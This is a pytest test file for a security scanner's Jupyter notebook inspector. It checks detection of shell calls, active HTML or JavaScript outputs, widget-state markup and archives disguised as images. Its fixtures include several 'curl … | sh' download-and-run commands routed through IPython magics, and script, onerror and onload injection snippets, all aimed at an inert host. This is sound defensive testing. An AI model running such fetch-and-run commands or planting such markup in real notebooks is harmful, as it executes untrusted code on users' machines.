"""Notebooks: cells are one program, commands are no Python, outputs are rendered."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.builders import notebooks
from weighbridge.core.coverage import Gap
from weighbridge.core.facts import EmbeddedPayload, Identity
from weighbridge.core.limits import Limits, Meter
from weighbridge.core.programs import SourceCall
from weighbridge.core.source import BytesSource
from weighbridge.core.texts import ActiveContent
from weighbridge.formats.node import Bench, Node
from weighbridge.formats.text import notebook


def read(content: bytes) -> list[Any]:
    bench = Bench(Limits(), Meter(Limits()))
    return list(notebook.inspect(json.loads(content), BytesSource(content), Node(name="a.ipynb"), bench))


def of(kind: type, content: bytes) -> list[Any]:
    return [one for one in read(content) if isinstance(one, kind)]


def names(content: bytes) -> set[str]:
    return {f"{one.module}.{one.name}" for one in of(SourceCall, content)}


def test_an_honest_notebook_has_commands_and_no_gap() -> None:
    content = notebooks.honest()
    assert "shell.command" in names(content)
    assert not of(Gap, content)
    assert not of(ActiveContent, content)


def test_names_carry_over_from_cell_to_cell() -> None:
    assert "os.system" in names(notebooks.across_cells())


@pytest.mark.parametrize("build", [notebooks.fetching_shell, notebooks.shell_cell])
def test_commands_that_fetch_and_run_are_found(build: Any) -> None:
    assert "shell.download_and_run" in names(build())


@pytest.mark.parametrize(
    "cell",
    [
        "%system curl http://inert.invalid/a | sh",
        "x = !curl http://inert.invalid/a | sh",
        "x = %sx curl http://inert.invalid/a | sh",
        "if True:\n    !curl http://inert.invalid/a | sh",
        "%%sh\ncurl http://inert.invalid/a | sh",
        "%%script bash\ncurl http://inert.invalid/a | sh",
    ],
)
def test_every_way_to_the_shell_is_known(cell: str) -> None:
    assert "shell.download_and_run" in names(notebooks.notebook(cell))


def test_a_cell_that_is_no_python_does_not_hide_the_others() -> None:
    content = notebooks.notebook("this is no python", "import os\nos.system('echo INERT')")
    assert "os.system" in names(content)
    assert len(of(Gap, content)) == 1


@pytest.mark.parametrize(
    "data",
    [
        {"text/html": "<script>1</script>"},
        {"text/html": ["<img src=x ", "onerror='1'>"]},
        {"application/javascript": "console.log('INERT')"},
        {"image/svg+xml": "<svg onload='1'/>"},
        {"text/html": "<iframe src='http://inert.invalid/'>"},
    ],
)
def test_outputs_that_act_are_told(data: dict[str, object]) -> None:
    content = notebooks.notebook("1", outputs=({"output_type": "display_data", "metadata": {}, "data": data},))
    assert len(of(ActiveContent, content)) == 1


def test_html_cells_and_the_state_of_widgets_are_looked_at() -> None:
    assert of(ActiveContent, notebooks.notebook("%%html\n<script>1</script>"))
    assert of(ActiveContent, notebooks.notebook("%%javascript\nconsole.log('INERT')"))
    state = {"widgets": {"state": {"a": {"state": {"value": "<img onerror=1>"}}}}}
    assert of(ActiveContent, notebooks.notebook("1", metadata=state))
    assert not of(ActiveContent, notebooks.notebook("1", metadata={"widgets": {"state": {"a": "<b>1</b>"}}}))


def test_a_picture_that_is_another_file_is_told() -> None:
    archive = {"image/png": "UEsDBBQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}
    content = notebooks.notebook("1", outputs=({"output_type": "display_data", "metadata": {}, "data": archive},))
    assert of(EmbeddedPayload, content)


def test_sheets_of_old_notebooks_are_read_and_other_documents_are_not() -> None:
    cell = {"cell_type": "code", "input": ["import os\n", "os.system('echo INERT')"], "outputs": []}
    assert "os.system" in names(json.dumps({"worksheets": [{"cells": [cell]}], "nbformat": 3}).encode())
    for other in ({"cells": [1, "x", {"a": 1}]}, {"cells": {"a": 1}}, {"worksheets": "x"}, {"cells": []}):
        assert read(json.dumps(other).encode()) == []
    assert of(Identity, notebooks.honest())
